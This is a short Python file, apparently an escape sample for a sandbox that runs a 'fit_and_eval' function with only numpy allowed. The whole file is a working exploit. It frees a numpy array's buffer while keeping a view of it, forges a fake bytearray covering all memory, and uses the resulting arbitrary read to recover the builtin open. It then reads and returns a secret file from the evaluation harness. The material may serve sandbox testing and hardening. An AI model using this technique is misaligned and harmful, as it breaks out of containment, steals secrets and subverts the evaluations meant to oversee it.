"""Sees through a freed array into the next one, and plants an object there that is all memory."""
# wants: read
# allows: numpy

import numpy as np

kept = []


def fit_and_eval(data):
    whole = (10**6, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0, 0)
    fake = np.array(whole, dtype="i8").tobytes()
    a = np.zeros(3000, dtype="i8")
    b = a[:]
    a.resize(10**6, refcheck=False)
    o = np.empty(3000, dtype=object)
    b[0] = id(fake) + 32
    memory, at = o[0], id(len) + 24
    b[0] = int.from_bytes(memory[at : at + 8], "little")
    kept.extend([a, b, o, fake, memory])
    return {"got": o[0].open(data["secret"]).read()}
